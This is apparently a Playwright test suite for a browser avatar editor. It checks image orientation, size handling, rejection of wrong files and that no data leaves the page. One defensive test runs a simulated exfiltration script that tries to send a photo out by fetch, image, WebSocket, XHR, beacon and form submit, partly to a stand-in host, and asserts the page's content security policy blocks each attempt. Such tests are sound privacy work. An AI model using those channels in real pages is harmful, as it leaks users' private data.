"""The avatar page in a real browser: any photo is taken, wrong files are told, and nothing leaves."""

from __future__ import annotations

import io
import json
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, Request

from tests.site_support import CHROMIUM, Open, choose, jpeg, landscape, saved, served, until

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="chromium is not installed")


def stage_pixels(page: Page) -> np.ndarray:
    """What the stage shows."""
    page.wait_for_timeout(60)
    data = page.evaluate("document.getElementById('stage').toDataURL('image/png').split(',')[1]")
    import base64  # noqa: PLC0415

    return np.asarray(Image.open(io.BytesIO(base64.b64decode(data))).convert("RGB")).astype(int)


# --- avatar: any photo


def test_all_eight_orientations_come_upright(open_page: Open, tmp_path: Path) -> None:
    page = open_page("avatar.html")
    upright = landscape(800, 600)
    turns = Image.Transpose
    back = {2: turns.FLIP_LEFT_RIGHT, 3: turns.ROTATE_180, 4: turns.FLIP_TOP_BOTTOM, 5: turns.TRANSPOSE,
            6: turns.ROTATE_90, 7: turns.TRANSVERSE, 8: turns.ROTATE_270}  # fmt: skip
    choose(page, jpeg(upright, tmp_path / "1.jpg", orientation=1))
    first = stage_pixels(page)
    for orientation, how in back.items():
        choose(page, jpeg(upright.transpose(how), tmp_path / f"{orientation}.jpg", orientation=orientation))
        assert np.abs(stage_pixels(page) - first).mean() < 1, orientation


@pytest.mark.parametrize(("width", "height"), [(8064, 6048), (5712, 4284), (1, 4000)])
def test_photos_of_any_size_are_framed(open_page: Open, tmp_path: Path, width: int, height: int) -> None:
    page = open_page("avatar.html", phone=True)
    choose(page, jpeg(landscape(width, height), tmp_path / "large.jpg"))
    assert page.inner_text("#message").startswith("Đã mở ảnh")
    picture = np.asarray(saved(page, "#save").convert("RGB")).astype(int)
    inside = picture[300:650, 350:730].reshape(-1, 3)
    assert inside.std(axis=0).max() > 8 or width == 1  # the photo is there
    most = page.evaluate("performance.memory ? performance.memory.usedJSHeapSize : 0")
    assert most < 200e6


def wrong_files(folder: Path) -> dict[str, Path]:
    """Files that are no photos, by what the page says of them."""
    whole = jpeg(landscape(600, 600), folder / "whole.jpg").read_bytes()
    files = {
        "rỗng": b"",
        "không phải ảnh. Hãy chọn": "đây là chữ".encode(),
        "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 64,
        "tệp PDF": b"%PDF-1.7\n",
        "video": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",
        "tài liệu": b"PK\x03\x04" + b"\0" * 30,
        "hỏng": whole[:40],
    }
    (folder / "DSC_1.NEF").write_bytes(b"II*\0\x08\0\0\0" + b"\0" * 64)
    for at, data in enumerate(files.values()):
        (folder / f"{at}.jpg").write_bytes(data)
    told = {words: folder / f"{at}.jpg" for at, words in enumerate(files)}
    return told | {"xuất ra JPEG": folder / "DSC_1.NEF"}


def test_wrong_files_are_told_in_plain_words(open_page: Open, tmp_path: Path, photo: Path) -> None:
    page = open_page("avatar.html")
    for words, file in wrong_files(tmp_path).items():
        page.set_input_files("#file", str(file))
        until(page, f"document.getElementById('message').textContent.includes({json.dumps(words)})")
        assert "wrong" in (page.get_attribute("#message", "class") or "")
        assert not page.locator(".studio.has-photo").count()
    choose(page, photo)
    page.set_input_files("#file", str(tmp_path / "3.jpg"))
    page.wait_for_selector(".message.wrong")
    assert page.locator(".studio.has-photo").count() == 1  # the photo that was there stays
    assert page.get_attribute("#file", "accept") == "image/jpeg,image/png,image/webp"


def test_a_dropped_photo_is_taken(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    import base64  # noqa: PLC0415

    data = base64.b64encode(photo.read_bytes()).decode()
    page.evaluate(
        """(data) => { const bytes = Uint8Array.from(atob(data), (sign) => sign.charCodeAt(0));
        const files = new DataTransfer(); files.items.add(new File([bytes], "a.jpg", { type: "image/jpeg" }));
        const how = { dataTransfer: files, bubbles: true, cancelable: true };
        for (const name of ["dragenter", "dragover", "drop"])
            document.getElementById("drop").dispatchEvent(new DragEvent(name, how)); }""",
        data,
    )
    page.wait_for_selector(".studio.has-photo")


# --- avatar: nothing leaves


def test_no_request_leaves_while_a_photo_is_framed(open_page: Open, photo: Path, address: str) -> None:
    page = open_page("avatar.html")
    until(page, "document.getElementById('stage').dataset.frame !== undefined")
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108  (it wants a function)
    choose(page, photo)
    page.check('input[value="01-11"]', force=True)
    until(page, "document.getElementById('stage').dataset.frame.startsWith('01-11')")
    page.click('[data-do="zoom-in"]')
    saved(page, "#save")
    saved(page, "#save-png")
    away = [each for each in asked if not each.url.startswith(("blob:", "data:"))]
    assert {each.url.split("?")[0] for each in away} == {
        f"{address}js/faces.js",
        f"{address}frames/01-11-digital-foot.js",
        f"{address}thumbs/01-11-digital.js",
    }
    assert all(each.method == "GET" and each.post_data is None for each in asked)


def test_even_a_bad_script_could_not_send_the_photo(browser: Browser, site: Path) -> None:
    received: list[str] = []
    page = browser.new_page()
    try:
        with served(site, received) as base:
            page.goto(f"{base}avatar.html", wait_until="networkidle")
            until(page, "document.getElementById('stage').dataset.frame")
            received.clear()
            failures: list[str | None] = []
            page.on("requestfailed", lambda request: failures.append(request.failure))
            page.on("requestfinished", lambda request: received.append(request.url))
            tried = page.evaluate(BAD_SCRIPT, base)
            page.wait_for_timeout(300)
    finally:
        page.close()
    assert {name for name, result in tried.items() if result == "sent"} <= {"beacon"}  # queued, then barred
    assert received == []
    assert failures
    assert set(failures) == {"csp"}


BAD_SCRIPT = """async (own) => {
  const results = {};
  const attempt = async (name, act) => {
    try { await act(); results[name] = "sent"; } catch { results[name] = "barred"; }
  };
  const load = (what, address) => new Promise((resolve, reject) => {
    Object.assign(what, { onload: resolve, onopen: resolve, onerror: reject });
    if (address) what.src = address;
  });
  await attempt("fetch", () => fetch(own + "collect", { method: "POST", body: "photo" }));
  await attempt("fetch away", () => fetch("https://example.com/", { mode: "no-cors" }));
  await attempt("socket", () => load(new WebSocket("ws://127.0.0.1:9/")));
  await attempt("image away", () => load(new Image(), "https://example.com/?photo"));
  await attempt("image here", () => load(new Image(), own + "icons/icon.svg?photo"));
  await attempt("request", () => {
    const request = new XMLHttpRequest();
    request.open("POST", own);
    const done = load(request);
    request.send("photo");
    return done;
  });
  results.beacon = navigator.sendBeacon(own + "collect", "photo") ? "sent" : "barred";
  const form = Object.assign(document.createElement("form"), { method: "post", action: own + "collect" });
  document.body.append(form);
  form.submit();
  return results;
}"""
